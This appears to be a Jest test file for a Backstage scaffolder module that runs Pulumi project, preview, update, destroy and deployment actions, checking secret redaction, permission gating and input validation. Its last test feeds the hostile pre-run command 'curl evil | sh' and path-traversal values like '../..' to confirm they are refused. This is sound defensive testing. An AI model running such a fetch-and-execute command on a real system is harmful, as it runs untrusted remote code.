import appstackPlugin from '@appstack/backstage-plugin-appstack-backend';
import { PulumiSimulator } from '@appstack/pulumi-simulator';
import type { PermissionsService } from '@backstage/backend-plugin-api';
import { ConfigReader } from '@backstage/config';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
import type { TemplateAction } from '@backstage/plugin-scaffolder-node';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'yaml';
import { createDeploymentConfigAction } from './actions/deploymentConfig';
import { createDeploymentRunAction } from './actions/deploymentRun';
import { createDestroyAction } from './actions/destroy';
import { createNewAction } from './actions/new';
import { createPreviewAction } from './actions/preview';
import { createUpAction } from './actions/up';
import { createClientFactory } from './client';
import { readPulumiConfig } from './config';
import { createGate } from './gate';
import { scaffolderModulePulumi } from './module';

jest.setTimeout(120_000);

const TOKEN = 'pul-madeUpT0ken';
const SECRET = 'hush-hush';
const STACK = 'acme/parcels/production';
const ref = { organization: 'acme', project: 'parcels', stack: 'production' };

/** How the program was called. */
interface ProgramCall {
  args: string[];
  stdin: string;
  env: Record<string, string>;
}

describe('the actions of Pulumi', () => {
  let cloud: PulumiSimulator;
  let backend: Awaited<ReturnType<typeof startTestBackend>>;
  let actions: Record<string, TemplateAction<any, any>>;
  let workspacePath: string;
  let home: string;
  const denied = new Set<string>();
  const logged: string[] = [];

  beforeAll(async () => {
    home = await mkdtemp(join(tmpdir(), 'pulumi-home-'));
    process.env.PULUMI_HOME = home;
    process.env.CLOUD_CREDENTIALS = 'for the program';
    process.env.OTHER_SECRET = 'of the backend';
    cloud = new PulumiSimulator({
      tokens: { [TOKEN]: ['acme'] },
      stacks: [{ ...ref, resources: { aws: 3 } }],
    });
    await cloud.listen();
    const data = {
      appstack: {
        limits: { compilerThreads: 0 },
        pulumi: {
          organizations: [
            { name: 'acme', accessToken: TOKEN, apiUrl: cloud.url },
          ],
          templates: {
            command: resolve(__dirname, '__testUtils__/pulumi.mjs'),
            environment: ['CLOUD_CREDENTIALS'],
            arguments: ['--refresh'],
          },
        },
      },
    };
    backend = await startTestBackend({
      features: [
        appstackPlugin,
        scaffolderPlugin,
        scaffolderModulePulumi,
        catalogServiceMock.factory({ entities: [] }),
        mockServices.rootConfig.factory({ data }),
      ],
    });
    const permissions = {
      authorize: async requests =>
        requests.map(({ permission }) => ({
          result: denied.has(permission.name)
            ? AuthorizeResult.DENY
            : AuthorizeResult.ALLOW,
        })),
    } as Pick<PermissionsService, 'authorize'> as PermissionsService;
    const parts = {
      settings: readPulumiConfig(new ConfigReader(data)),
      gate: createGate(permissions),
      clientOf: createClientFactory({
        auth: mockServices.auth({ pluginId: 'scaffolder' }),
        discovery: mockServices.discovery.mock({
          getBaseUrl: async id =>
            `http://localhost:${backend.server.port()}/api/${id}`,
        }),
      }),
    };
    const made = [
      createNewAction(parts),
      createPreviewAction(parts),
      createUpAction(parts),
      createDestroyAction(parts),
      createDeploymentConfigAction(parts),
      createDeploymentRunAction(parts),
    ];
    actions = Object.fromEntries(made.map(action => [action.id, action]));
  });

  beforeEach(async () => {
    workspacePath = await mkdtemp(join(tmpdir(), 'pulumi-workspace-'));
    await rm(join(home, 'calls.jsonl'), { force: true });
    cloud.requests.length = 0;
    denied.clear();
    logged.length = 0;
  });

  afterAll(async () => {
    await backend.stop();
    await cloud.close();
  });

  /** Runs an action and gives its outputs. */
  const run = async (id: string, input: object, more: object = {}) => {
    const outputs: Record<string, any> = {};
    const context = createMockActionContext({
      input: input as any,
      workspacePath,
    });
    const info = (line: string) => logged.push(line);
    await actions[id].handler({
      ...context,
      logger: { ...context.logger, info } as typeof context.logger,
      output: (name: string, value: unknown) => {
        outputs[name] = value;
      },
      getInitiatorCredentials: async () =>
        mockCredentials.user('user:default/ada'),
      ...more,
    });
    return outputs;
  };

  const exampleOf = (id: string): Record<string, any> =>
    parse(
      actions[id].examples![0].example.replaceAll(
        '${{ secrets.apiKey }}',
        SECRET,
      ),
    ).steps[0].input;

  const calls = async (): Promise<ProgramCall[]> => {
    const text = await readFile(join(home, 'calls.jsonl'), 'utf8').catch(
      () => '',
    );
    return text
      .split('\n')
      .filter(Boolean)
      .map(line => JSON.parse(line));
  };
  const commands = async () =>
    (await calls()).map(({ args }) => args.slice(3).join(' '));

  it('are listed by the scaffolder', async () => {
    const answer = await fetch(
      `http://localhost:${backend.server.port()}/api/scaffolder/v2/actions`,
      { headers: { authorization: mockCredentials.user.header() } },
    );
    const listed: { id: string }[] = await answer.json();
    expect(listed.map(({ id }) => id)).toEqual(
      expect.arrayContaining(Object.keys(actions)),
    );
  });

  it('make a project and its stack, with settings that are in no argument and no log', async () => {
    const outputs = await run('pulumi:new', exampleOf('pulumi:new'));

    expect(outputs).toEqual({ stack: STACK, folder: 'infrastructure' });
    expect(await commands()).toEqual([
      'new --generate-only --yes --force --name parcels --description=Follows parcels -- https://github.com/acme/templates/tree/main/service',
      `stack select --create --stack ${STACK}`,
      `config set --plaintext --stack ${STACK} -- aws:region`,
      `config set --secret --stack ${STACK} -- apiKey`,
    ]);
    const [{ env }, , , secret] = await calls();
    expect(secret.stdin).toBe(SECRET);
    expect(env).toMatchObject({
      PULUMI_ACCESS_TOKEN: TOKEN,
      PULUMI_BACKEND_URL: cloud.url,
      CLOUD_CREDENTIALS: 'for the program',
    });
    expect(env).not.toHaveProperty('OTHER_SECRET');
    expect(logged).toContain('read ***');
    expect(logged.join('\n')).not.toContain(SECRET);
    const project = join(workspacePath, 'infrastructure/Pulumi.yaml');
    expect(await readFile(project, 'utf8')).toBe('name: parcels\n');
  });

  it.each(['pulumi:preview', 'pulumi:up'])(
    '%s runs as its example says, in a folder that is there',
    async id => {
      const absent = run(id, exampleOf(id));
      await expect(absent).rejects.toThrow(/no folder infrastructure/);
      await mkdir(join(workspacePath, 'infrastructure'));
      expect(Object.keys(await run(id, exampleOf(id)))).toHaveLength(2);
    },
  );

  it('say what would change', async () => {
    const outputs = await run('pulumi:preview', {
      ...ref,
      args: ['--refresh'],
    });
    expect(outputs).toEqual({ changes: { create: 2, same: 5 }, changed: true });
    expect((await commands()).at(-1)).toBe(
      `preview --json --stack ${STACK} --refresh`,
    );
  });

  it('update, and give the outputs that are asked for', async () => {
    const outputs = await run('pulumi:up', { ...ref, outputs: ['url'] });
    expect(outputs).toEqual({
      stack: STACK,
      outputs: { url: 'https://parcels.example.com' },
    });
    expect(logged).toContain('    + 2 created');
    const missing = run('pulumi:up', { ...ref, outputs: ['none'] });
    await expect(missing).rejects.toThrow(/has no output none/);
  });

  it('destroy what is confirmed by its whole name', async () => {
    const refused = run('pulumi:destroy', { ...ref, confirm: 'production' });
    await expect(refused).rejects.toThrow(/production is another one/);
    const { folder: _, ...input } = exampleOf('pulumi:destroy');
    expect(await run('pulumi:destroy', input)).toEqual({ stack: STACK });
    expect(await commands()).toEqual([
      `destroy --yes --skip-preview --stack ${STACK}`,
      `stack rm --yes --stack ${STACK}`,
    ]);
  });

  it('fail with what the program said, without the token', async () => {
    await writeFile(join(workspacePath, 'fails'), '');
    const failed = run('pulumi:up', ref);
    await expect(failed).rejects.toThrow(/ended with 255[^]*with token \*\*\*/);
  });

  it.each([
    [
      'an argument',
      { args: ['--exec-kind=x'] },
      /does not permit: --exec-kind/,
    ],
    ['a name that is a path', { stack: '../x' }, /hold letters/],
    ['a folder elsewhere', { folder: '../..' }, /not allowed|outside/i],
    ['a key with a blank', { config: { 'a b': 'x' } }, /no key of a setting/],
    ['an organization', { organization: 'other' }, /no access token/],
  ])('do not run with %s that nobody permitted', async (_, input, words) => {
    const trying = run('pulumi:preview', { ...ref, ...input });
    await expect(trying).rejects.toThrow(words);
    expect(await calls()).toEqual([]);
  });

  it('take a leading hyphen for a part of a name, and never for a flag', async () => {
    const stack = '--version';
    await run('pulumi:preview', { ...ref, stack, config: { '--path': 'x' } });
    expect(await commands()).toEqual([
      'stack select --create --stack acme/parcels/--version',
      'config set --plaintext --stack acme/parcels/--version -- --path',
      'preview --json --stack acme/parcels/--version',
    ]);
  });

  it.each([
    ['pulumi:preview', {}, 'appstack.pulumi.run'],
    ['pulumi:destroy', { confirm: STACK }, 'appstack.pulumi.destroy'],
  ])('%s needs the permission of the person', async (id, input, permission) => {
    denied.add(permission);
    const refused = run(id, { ...ref, ...input });
    await expect(refused).rejects.toThrow(permission);
    expect(await calls()).toEqual([]);
  });

  it('stop once the task is cancelled', async () => {
    const signal = AbortSignal.abort(new Error('cancelled'));
    const cancelled = run('pulumi:up', ref, { signal });
    await expect(cancelled).rejects.toThrow('cancelled');
    expect(await calls()).toEqual([]);
  });

  it('interrupt the program, and wait until it has ended in order', async () => {
    await writeFile(join(workspacePath, 'waits'), '');
    const task = new AbortController();
    const cancelled = run('pulumi:up', ref, {
      signal: task.signal,
      logger: {
        info: (line: string) => line === 'waiting' && task.abort(),
      },
    });
    await expect(cancelled).rejects.toThrow(/aborted/);
    expect((await commands()).at(-1)).toBe('interrupted');
  });

  it('set how Pulumi Deployments runs a stack, and run it to its end', async () => {
    const id = 'pulumi:deployment:config';
    const { consoleUrl } = await run(id, exampleOf(id));
    expect(consoleUrl).toMatch(/acme\/parcels\/production/);
    expect(cloud.requests.at(-1)!.body.operationContext).toEqual({
      environmentVariables: {
        AWS_REGION: 'eu-central-1',
        API_KEY: { secret: SECRET },
      },
    });

    cloud.stacks[0].deployments = [];
    const update = exampleOf('pulumi:deployment:run');
    expect(
      await run('pulumi:deployment:run', { ...update, wait: false }),
    ).toMatchObject({ version: 1 });
    cloud.begin = 'succeeded';
    expect(await run('pulumi:deployment:run', update)).toMatchObject({
      ...{ version: 2, status: 'succeeded' },
      consoleUrl: expect.stringMatching(/deployments\/2$/),
    });
    cloud.begin = 'failed';
    const failed = run('pulumi:deployment:run', update);
    await expect(failed).rejects.toThrow(/Deployment 3 of .* is failed/);
    const again = run('pulumi:deployment:run', {
      ...{ ...ref, operation: 'destroy' },
    });
    await expect(again).rejects.toThrow(/Confirm it/);
  });

  it('are refused commands before a deployment unless the configuration permits them', async () => {
    const refused = run('pulumi:deployment:config', {
      ...ref,
      preRunCommands: ['curl evil | sh'],
    });
    await expect(refused).rejects.toThrow(/does not permit: curl evil/);
  });
});
